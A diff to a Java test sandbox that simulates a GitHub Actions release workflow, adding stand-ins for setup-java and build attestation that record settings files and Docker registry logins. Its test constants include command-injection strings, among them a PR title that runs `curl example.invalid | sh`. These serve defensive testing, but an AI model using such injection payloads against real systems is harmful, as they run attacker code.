@@ -8,11 +8,13 @@ import dev.llmproxy.release.pom.ReactorVersions;
 import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.net.URISyntaxException;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.nio.file.StandardCopyOption;
 import java.nio.file.attribute.PosixFilePermissions;
 import java.util.ArrayList;
+import java.util.Base64;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
@@ -36,8 +38,24 @@ final class RunnerSandbox {
     static final String COMMIT_SUBJECT = "feat: x`$(id)`";
     static final String PR_TITLE = "\"; curl example.invalid | sh; #";
 
-    /** One recorded call of the stub {@code ./mvnw}. */
-    record MavenCall(Path cwd, List<String> args, String mavenArgs, boolean token) {
+    /**
+     * One recorded call of the stub {@code ./mvnw}.
+     *
+     * @param token   whether GITHUB_TOKEN was set
+     * @param secrets which of IMAGE_REGISTRY_PASSWORD and MAVEN_REPOSITORY_PASSWORD were set (names only)
+     */
+    record MavenCall(Path cwd, List<String> args, String mavenArgs, boolean token, List<String> secrets) {
+    }
+
+    /**
+     * The registry login an image attestation would push with: from {@code $DOCKER_CONFIG/config.json} at the time
+     * of the attest step, for the registry of the subject.
+     */
+    record RegistryLogin(String registry, String username, String password) {
+        @Override
+        public String toString() {
+            return "RegistryLogin[" + registry + ", " + username + ", (password hidden)]";
+        }
     }
 
     /** One {@code actions/checkout} call: the with: values as given. */
@@ -51,6 +69,12 @@ final class RunnerSandbox {
     final String toolingSha;
     final List<Checkout> checkouts = new ArrayList<>();
     final List<List<String>> attestedSubjects = new ArrayList<>();
+    /** The registry logins the image attestations found, one per image attestation. */
+    final List<RegistryLogin> attestationLogins = new ArrayList<>();
+    /** The settings.xml files the setup-java stand-in wrote, in order. */
+    final List<Path> setupJavaSettings = new ArrayList<>();
+    /** Secrets the caller passes to the reusable workflow ({@code secrets:} of the calling job). */
+    final Map<String, String> secrets = new LinkedHashMap<>();
     /** Variables added to (or replacing) every job's environment, e.g. GITHUB_API_URL of a stand-in. */
     final Map<String, String> environment = new LinkedHashMap<>();
     private final Path traps;
@@ -112,6 +136,38 @@ final class RunnerSandbox {
         } catch (IOException e) {
             throw new UncheckedIOException(e);
         }
+        return releasedProject(root, project, previousTag, version);
+    }
+
+    /**
+     * A sandbox whose project is another repository that calls the reusable workflow: {@code files} (path to text)
+     * plus this repository's Maven wrapper ({@code mvnw}, {@code .mvn/wrapper/}), with the history of
+     * {@link #ofThisRepository}. {@link #jobContext()} names the project itself as the workflow's repository: pass
+     * the {@code plugin-version} input, the plugin is not built from it.
+     */
+    static RunnerSandbox ofCallerProject(Path root, Map<String, String> files, String previousTag, String version) {
+        Project.requireProgram("git", "install git");
+        Path project = directory(root, "project");
+        try {
+            for (Map.Entry<String, String> file : files.entrySet()) {
+                Files.createDirectories(project.resolve(file.getKey()).getParent());
+                Files.writeString(project.resolve(file.getKey()), file.getValue());
+            }
+            for (String wrapper : List.of("mvnw", ".mvn/wrapper/maven-wrapper.properties")) {
+                Files.createDirectories(project.resolve(wrapper).getParent());
+                Files.copy(Project.root().resolve(wrapper), project.resolve(wrapper), StandardCopyOption.COPY_ATTRIBUTES);
+            }
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return releasedProject(root, project, previousTag, version);
+    }
+
+    /**
+     * Commits {@code project} tagged {@code previousTag}, then a {@code feat} commit and the release commit with every
+     * pom at {@code version} tagged {@code v<version>}, and serves it from a bare origin.
+     */
+    private static RunnerSandbox releasedProject(Path root, Path project, String previousTag, String version) {
         git(project, "init", "--quiet", "--initial-branch=main");
         commitAll(project, "chore: import the project");
         git(project, "tag", "-a", previousTag, "-m", "Release " + previousTag);
@@ -139,11 +195,14 @@ final class RunnerSandbox {
         }
     }
 
-    /** The {@code uses:} stand-ins: checkout clones from the bare origins, attest records its subjects. */
+    /**
+     * The {@code uses:} stand-ins: checkout clones from the bare origins, setup-java writes the settings.xml the real
+     * action writes (Java itself is this machine's), attest records its subjects and the registry login it finds.
+     */
     Map<String, LocalAction> actions() {
         return Map.of(
-                "actions/checkout", this::checkout,
-                "actions/setup-java", (with, workspace) -> Map.of(),
+                "actions/checkout", (with, workspace, environment) -> checkout(with, workspace),
+                "actions/setup-java", this::setupJava,
                 "actions/attest-build-provenance", this::attest);
     }
 
@@ -187,13 +246,14 @@ final class RunnerSandbox {
         env.putAll(environment);
         Map<String, Object> github = new LinkedHashMap<>();
         github.put("token", TOKEN);
+        github.put("actor", "release-bot");
         github.put("ref", ref);
         github.put("ref_name", refName);
         github.put("repository", REPOSITORY);
         github.put("repository_owner", "Example-Org");
         github.put("server_url", "https://github.com");
         github.put("event", event);
-        return new Machine(workspace, temp, env, github, inputs, job);
+        return new Machine(workspace, temp, env, github, inputs, job, Map.copyOf(secrets));
     }
 
     /** The job context GitHub gives a job of a reusable workflow called from another repository. */
@@ -242,6 +302,7 @@ final class RunnerSandbox {
         Path cwd = null;
         List<String> args = new ArrayList<>();
         String mavenArgs = "";
+        List<String> secretsSet = List.of();
         for (String line : read(log).lines().toList()) {
             if (line.equals("---")) {
                 args = new ArrayList<>();
@@ -251,8 +312,10 @@ final class RunnerSandbox {
                 args.add(line.substring(4));
             } else if (line.startsWith("MAVEN_ARGS ")) {
                 mavenArgs = line.substring(11);
+            } else if (line.startsWith("SECRETS")) {
+                secretsSet = Stream.of(line.substring(7).strip().split("\\s+")).filter(name -> !name.isEmpty()).toList();
             } else if (line.startsWith("GITHUB_TOKEN ")) {
-                calls.add(new MavenCall(cwd, List.copyOf(args), mavenArgs, line.equals("GITHUB_TOKEN set")));
+                calls.add(new MavenCall(cwd, List.copyOf(args), mavenArgs, line.equals("GITHUB_TOKEN set"), secretsSet));
             }
         }
         return calls;
@@ -285,7 +348,64 @@ final class RunnerSandbox {
         return Map.of("ref", ref, "commit", git(target, "rev-parse", "HEAD").strip());
     }
 
-    private Map<String, String> attest(Map<String, String> with, Path workspace) {
+    /**
+     * What actions/setup-java's authentication part does (its {@code src/auth.ts}): always writes {@code settings.xml}
+     * into {@code settings-path} (default {@code ~/.m2}), overwriting unless {@code overwrite-settings: false}, with
+     * one server: id {@code server-id} (default {@code github}), username and password as {@code ${env.NAME}} of the
+     * variables named by {@code server-username} / {@code server-password} (default GITHUB_ACTOR / GITHUB_TOKEN).
+     */
+    private Map<String, String> setupJava(Map<String, String> with, Path workspace, Map<String, String> environment) throws IOException {
+        String directory = with.getOrDefault("settings-path", "");
+        Path settings = (directory.isEmpty() ? Path.of(environment.get("HOME"), ".m2") : Path.of(directory)).resolve("settings.xml");
+        if (Files.exists(settings) && "false".equals(with.get("overwrite-settings"))) {
+            return Map.of();
+        }
+        Files.createDirectories(settings.getParent());
+        Files.writeString(settings, """
+                <settings xmlns="http://maven.apache.org/SETTINGS/1.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" \
+                xsi:schemaLocation="http://maven.apache.org/SETTINGS/1.0.0 https://maven.apache.org/xsd/settings-1.0.0.xsd">
+                  <interactiveMode>false</interactiveMode>
+                  <servers>
+                    <server>
+                      <id>%s</id>
+                      <username>${env.%s}</username>
+                      <password>${env.%s}</password>
+                    </server>
+                  </servers>
+                </settings>
+                """.formatted(xml(orDefault(with, "server-id", "github")), xml(orDefault(with, "server-username", "GITHUB_ACTOR")),
+                xml(orDefault(with, "server-password", "GITHUB_TOKEN"))));
+        setupJavaSettings.add(settings);
+        return Map.of();
+    }
+
+    private static String orDefault(Map<String, String> with, String key, String fallback) {
+        String value = with.getOrDefault(key, "");
+        return value.isEmpty() ? fallback : value;
+    }
+
+    private static String xml(String text) {
+        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
+    }
+
+    /**
+     * actions/attest-build-provenance: either files ({@code subject-path}, each must exist) or an image
+     * ({@code subject-name} and {@code subject-digest}); with {@code push-to-registry: true} it needs the registry's
+     * login in {@code $DOCKER_CONFIG/config.json} (default {@code ~/.docker}), as the real action's OCI client does.
+     */
+    private Map<String, String> attest(Map<String, String> with, Path workspace, Map<String, String> environment) throws IOException {
+        String digest = with.getOrDefault("subject-digest", "");
+        if (!digest.isEmpty()) {
+            String image = with.getOrDefault("subject-name", "");
+            if (!digest.matches("sha256:[0-9a-f]{64}") || image.isEmpty() || image.contains("@")) {
+                throw new IllegalArgumentException("subject-name must name the image without tag and subject-digest be sha256:<hex>");
+            }
+            if ("true".equals(with.get("push-to-registry"))) {
+                attestationLogins.add(dockerLogin(image.substring(0, image.indexOf('/')), environment));
+            }
+            attestedSubjects.add(List.of(image + "@" + digest));
+            return Map.of("bundle-path", workspace.resolve("attestation.jsonl").toString());
+        }
         List<String> subjects = with.getOrDefault("subject-path", "").lines().toList();
         for (String subject : subjects) {
             if (!Files.isRegularFile(workspace.resolve(subject))) {
@@ -294,6 +414,20 @@ final class RunnerSandbox {
         }
         attestedSubjects.add(subjects);
         return Map.of("bundle-path", workspace.resolve("attestation.jsonl").toString());
+    }
+
+    private static RegistryLogin dockerLogin(String registry, Map<String, String> environment) throws IOException {
+        String directory = environment.getOrDefault("DOCKER_CONFIG", environment.get("HOME") + "/.docker");
+        Path config = Path.of(directory, "config.json");
+        if (!Files.isRegularFile(config)) {
+            throw new IllegalArgumentException("No Docker credentials for " + registry + ": " + config + " does not exist");
+        }
+        String auth = Project.JSON.readTree(config.toFile()).path("auths").path(registry).path("auth").asText();
+        String login = new String(Base64.getDecoder().decode(auth), StandardCharsets.UTF_8);
+        if (!login.contains(":")) {
+            throw new IllegalArgumentException("No Docker credentials for " + registry + " in " + config);
+        }
+        return new RegistryLogin(registry, login.substring(0, login.indexOf(':')), login.substring(login.indexOf(':') + 1));
     }
 
     private static Path sampleRepository(Path root, String name, Map<String, String> files) throws IOException {
@@ -344,7 +478,7 @@ final class RunnerSandbox {
      * The release plugin's classes as a jar (the stub {@code ./mvnw} "builds" it): the jar on the test class path,
      * or one made from its classes directory.
      */
-    private Path pluginJar() {
+    Path pluginJar() {
         try {
             Path location = Path.of(ImageMain.class.getProtectionDomain().getCodeSource().getLocation().toURI());
             if (Files.isRegularFile(location)) {
